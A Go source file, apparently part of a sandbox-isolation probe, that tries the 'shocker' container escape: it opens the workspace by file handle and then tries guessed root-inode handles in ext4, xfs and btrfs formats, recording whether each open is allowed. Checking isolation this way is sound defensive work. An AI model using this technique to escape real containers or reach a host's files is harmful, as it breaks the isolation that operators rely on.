package probe

import (
	"encoding/binary"
	"fmt"

	"golang.org/x/sys/unix"
)

// homeByHandle is the "shocker" attack: a file handle names an inode of the
// whole file system, so one that is opened by handle ignores what is mounted.
func homeByHandle(f Facts) []way {
	if f.Workspace == "" {
		return nil
	}
	list := []way{{"open the workspace by its own handle", func() error {
		handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, f.Workspace, 0)
		if err != nil {
			return err
		}
		return openHandle(f.Workspace, handle)
	}}}
	for _, inode := range []uint64{2, 5, 32, 64, 96, 128, 256} {
		for _, handle := range rootHandles(inode) {
			what := fmt.Sprintf("open inode %d by handle type %#x", inode, handle.Type())
			list = append(list, way{what, func() error { return openHandle(f.Workspace, handle) }})
		}
	}
	return list
}

// openHandle works also for a stale handle: it was looked up, so it is only the
// guess that was wrong.
func openHandle(mount string, handle unix.FileHandle) error {
	at, err := open(mount, unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		return notTried(err)
	}
	defer unix.Close(at)
	fd, err := unix.OpenByHandleAt(at, handle, unix.O_RDONLY|unix.O_CLOEXEC)
	if err == nil {
		return unix.Close(fd)
	}
	return allowed(err)
}

// rootHandles are the forms in which common file systems encode an inode.
func rootHandles(inode uint64) []unix.FileHandle {
	le := binary.LittleEndian
	ino32 := le.AppendUint32(le.AppendUint32(nil, uint32(inode)), 0)
	ino64 := le.AppendUint32(le.AppendUint64(nil, inode), 0)
	btrfs := le.AppendUint32(le.AppendUint64(le.AppendUint64(nil, inode), 5), 0)
	return []unix.FileHandle{
		unix.NewFileHandle(0x01, ino32), // ext4, xfs with small inodes
		unix.NewFileHandle(0x81, ino64), // xfs
		unix.NewFileHandle(0x4d, btrfs), // btrfs
	}
}
